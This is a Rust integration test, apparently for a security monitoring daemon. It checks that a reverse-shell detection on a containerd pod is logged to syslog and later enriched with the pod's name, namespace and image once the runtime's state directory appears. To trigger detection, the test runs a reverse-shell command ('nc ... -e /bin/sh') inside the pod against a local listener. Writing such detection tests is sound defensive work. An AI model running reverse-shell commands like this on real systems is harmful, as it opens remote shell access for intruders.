//! What a runtime writes a moment too late is in a later record, and in a later line of syslog, though nothing else happens.

use std::os::unix::fs::symlink;
use std::os::unix::net::UnixDatagram;
use std::process::Stdio;
use std::time::Instant;

use serde_json::{Value, json};

use crate::common::DEADLINE;
use crate::common::attacker::Listener;
use crate::common::daemon::{Daemon, Place};
use crate::common::victim::Victim;
use crate::cri::{NAMESPACE, Pod};
use crate::image;
use crate::require_containerd;

/// The next line about a connection to this port, as what it says.
fn line(syslog: &UnixDatagram, port: u16) -> Value {
    let begun = Instant::now();
    loop {
        assert!(begun.elapsed() < DEADLINE, "no line in syslog");
        let mut bytes = [0; 16 << 10];
        let length = syslog.recv(&mut bytes).expect("a line in syslog, in time");
        let line = String::from_utf8_lossy(&bytes[..length]).into_owned();
        let told: Value = serde_json::from_str(line.split_once("@cee: ").unwrap().1).unwrap();
        if told["peer_port"] == port {
            return told;
        }
    }
}

#[test]
fn the_pods_name_comes_later() {
    require_containerd!();
    let place = Place::new("");
    let syslog = UnixDatagram::bind(place.path("log")).unwrap();
    syslog.set_read_timeout(Some(DEADLINE)).unwrap();
    let pod = Pod::run("sleep 600");
    let state = place.path("state");
    place.configure(&format!(
        "[syslog]\nenabled = true\npath = \"{}\"\n[enrich]\ndigest_wait_ms = 1000\ncontainerd_directories = [\"{}\"]\n",
        place.path("log").display(),
        state.display()
    ));
    let daemon = Daemon::start_in(&place);
    let attacker = Listener::tcp();
    let mut command = pod.exec(&format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
    command.stdin(Stdio::null()).stdout(Stdio::null());
    let victim = Victim::spawn(command);
    let session = attacker.accept();

    let first = line(&syslog, attacker.port());
    assert_eq!((&first["pod_uid"], &first["state"]), (&json!(pod.uid), &json!("ACTIVE")), "{first}");
    assert_eq!((&first["pod"], &first["ns"], &first["image"]), (&Value::Null, &Value::Null, &Value::Null));
    // The shell is left alone. The runtime's directory appears, and nothing else happens.
    symlink(pod.containerd.home.path("state"), &state).unwrap();
    let mut next = line(&syslog, attacker.port());
    // A shell that is executed by nc is a command more: that has a line of its own, within a second.
    while next["pod"].is_null() {
        next = line(&syslog, attacker.port());
    }
    assert_eq!((&next["pod"], &next["ns"]), (&json!(pod.name), &json!(NAMESPACE)), "{next}");
    assert_eq!((&next["container"], &next["image"]), (&json!("app"), &json!(image::NAME)), "{next}");
    assert_eq!((&next["id"], &next["state"]), (&first["id"], &json!("ACTIVE")), "{next}");
    assert!(next["seq"].as_u64() > first["seq"].as_u64(), "{first} {next}");

    let own: Vec<_> = daemon.records().into_iter().filter(|record| first["id"] == record.id()).collect();
    let (first, last) = (&own[0], own.last().unwrap());
    let missing = |record: &crate::common::finding::Finding| {
        record.property("Enrichment_Status")["missing"].to_string()
    };
    assert!(missing(first).contains("pod's name and namespace: the runtime's files do not say"), "{first:?}");
    assert_eq!(missing(last), "[]", "{last:?}");
    assert_eq!(last.text("Pod_Name"), pod.name);
    assert_eq!(first.count(), last.count(), "nothing was run meanwhile");
    drop((session, victim));
}
